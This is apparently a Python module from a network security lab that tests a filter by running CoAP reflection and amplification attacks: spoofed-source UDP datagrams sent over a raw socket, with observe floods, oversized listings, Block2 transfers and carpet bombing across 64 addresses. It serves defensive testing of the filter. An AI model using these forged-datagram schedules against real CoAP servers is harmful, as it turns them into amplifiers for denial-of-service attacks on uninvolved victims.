# SPDX-License-Identifier: BSD-3-Clause
"""The attacks of the lab, and the attacker that runs them.

Each vector is a schedule of forged datagrams (who they pretend to come from,
when, what is in them), plus what the attacker does beforehand from its own,
real address. The same schedule runs with the filter bypassed and enforcing,
each time toward addresses that were never used before.

Numbers of the vectors (AV-..) are those of docs/threat-model.md.
"""

import socket
import threading
import time
from collections import namedtuple

import coap
import lab as wiring
import netns
import packets
from peer import Peer

BODY = bytes(ord("a") + i % 26 for i in range(1000))
LISTED_NAMES = 15

# at: seconds after the vector's start; victim: index into its addresses;
# port: source port; data: CoAP bytes; server: table of addresses by family
Shot = namedtuple("Shot", "at victim port data server")
Sent = namedtuple("Sent", "time length")


class Vector:
    """One attack: `shots` are forged, `own` is sent as the attacker itself."""

    def __init__(self, number, title, shots, start, victims=1, own=()):
        self.number, self.title, self.start = number, title, start
        self.shots, self.victims, self.own = shots, victims, own

    def addresses(self, index, phase, family):
        """Forged addresses: a network of its own per vector and phase, so that
        no vector uses up what a covering prefix may still receive."""
        if family == 4:
            return [f"10.{index}.{phase}.{7 + n}" for n in range(self.victims)]
        return [f"3fff:{phase}{index:02x}::{7 + n:x}" for n in range(self.victims)]


def _train(count, rate, build, port=lambda i: 40000, victim=lambda i: 0,
           server=wiring.SERVER):
    """`count` shots, `rate` per second; the datagram is built from its index."""
    return [Shot(i / rate, victim(i), port(i), build(i), server) for i in range(count)]


def _get(path, kind=coap.NON, token=lambda i: b"", extra=lambda i: ()):
    """A builder of GET requests with growing Message IDs."""
    def build(i):
        return coap.message(kind, coap.GET, 0x1000 + i, token(i),
                            coap.path(path) + list(extra(i)))
    return build


def _observe(path, extra=lambda i: ()):
    return _get(path, token=lambda i: bytes([0x60 + i % 64, i // 64]),
                extra=lambda i: [(coap.OPT_OBSERVE, b""), *extra(i)])


def vectors():
    """All vectors, the ones with a long tail first."""
    spread = lambda i: 41000 + i
    return [
        Vector("AV-12", "Observe for a forged client", start=0,
               shots=_train(5, 5, _observe("/time"), port=spread, server=wiring.SERVER_NON)),
        Vector("AV-13", "Observe, many queries", start=1,
               shots=_train(20, 10, _observe("/time", lambda i: [
                   (coap.OPT_URI_QUERY, b"a=%d" % i)]), server=wiring.SERVER_NON)),
        Vector("AV-06", "Retransmission of separate answers", start=3,
               shots=_train(20, 10, _get("/async", coap.CON, lambda i: b"A%c" % (33 + i),
                                         lambda i: [(coap.OPT_URI_QUERY, b"1")]), port=spread)),
        Vector("AV-10", "Signalling code over UDP", start=5,
               shots=_train(20, 10, lambda i: coap.message(coap.CON, coap.CODE_SIGNAL_PING, i),
                            port=spread)),
        Vector("AV-16", "Fan-out of one update", start=7,
               shots=_train(20, 20, _observe("/fan"), port=spread),
               own=[(3.0, "/fan", BODY)]),
        Vector("AV-01", "Large listing", start=10,
               shots=_train(200, 20, _get("/.well-known/core", coap.CON))),
        Vector("AV-03", "Body planted by the attacker", start=14,
               shots=_train(200, 20, _get("/m"))),
        Vector("AV-02", "Request disguised as ACK", start=18,
               shots=_train(100, 20, _get("/m", coap.ACK))),
        Vector("AV-07", "Errors with diagnostics", start=21,
               shots=_train(100, 20, _get("/", coap.CON, extra=lambda i: [(9001 + 2 * i, b"x")]))),
        Vector("AV-08", "CoAP ping", start=24,
               shots=_train(100, 20, lambda i: coap.message(coap.CON, coap.EMPTY, i))),
        Vector("AV-26", "Block2 of 1024 bytes", start=27,
               shots=_train(100, 20, _get("/m2", extra=lambda i: [(coap.OPT_BLOCK2, b"\x06")]))),
        Vector("AV-41", "Carpet: 64 addresses of one network", start=30, victims=64,
               shots=_train(256, 32, _get("/m"), victim=lambda i: i % 64)),
    ]


def plant(lab, family):
    """Everything the attacker prepares, as itself. Returns what succeeded."""
    own = Peer(lab, "attacker", family)
    try:
        done = {"/m": own.put("/m", BODY), "/m2": own.put("/m2", BODY * 4),
                "/fan": own.put("/fan", b"small")}
        names = [f"/L{n:02d}" + "x" * 200 for n in range(LISTED_NAMES)]
        done["listing"] = all([own.put(name, b"z") for name in names])
        return done
    finally:
        own.close()


class Attacker:
    """Sends the forged frames of all vectors, each at its time, and notes
    every frame's IP bytes just before it leaves."""

    def __init__(self, lab):
        self.lab = lab
        self.sock = netns.in_namespace(lab.ns("attacker"), self._open)
        self.sent = {}

    @staticmethod
    def _open():
        sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        sock.bind(("eth0", 0))
        return sock

    def _plan(self, chosen, phase, families):
        """(time, key, frame or own action) in order of time."""
        plan = []
        for index, vector in chosen:
            for family in families:
                key = (vector.number, family)
                self.sent[key] = []
                addresses = vector.addresses(index, phase, family)
                for shot in vector.shots:
                    frame = packets.udp_frame(
                        wiring.MAC["attacker"], wiring.MAC["inside"], addresses[shot.victim],
                        shot.server[family], shot.port, coap.PORT, shot.data)
                    plan.append((vector.start + shot.at, key, frame))
                plan += [(vector.start + at, key, (path, body)) for at, path, body in vector.own]
        return sorted(plan, key=lambda step: step[0])

    def run(self, chosen, phase, families):
        """Run the schedule; returns when the last frame has left."""
        helpers = []
        began = time.monotonic()
        for at, key, step in self._plan(chosen, phase, families):
            time.sleep(max(0.0, began + at - time.monotonic()))
            if isinstance(step, bytes):
                self.sent[key].append(Sent(time.time(), len(step) - 14))
                self.sock.send(step)
            else:
                helper = threading.Thread(target=self._own, args=(key, *step), daemon=True)
                helper.start()
                helpers.append(helper)
        for helper in helpers:
            helper.join()

    def _own(self, key, path, body):
        """An update from the attacker's own address; its first copy counts as
        attack bytes."""
        own = Peer(self.lab, "attacker", key[1])
        try:
            size = (28 if key[1] == 4 else 48) + len(
                coap.message(coap.CON, coap.PUT, 0, b"peer", coap.path(path), body))
            self.sent[key].append(Sent(time.time(), size))
            own.put(path, body)
        finally:
            own.close()

    def close(self):
        """Give the socket back."""
        self.sock.close()
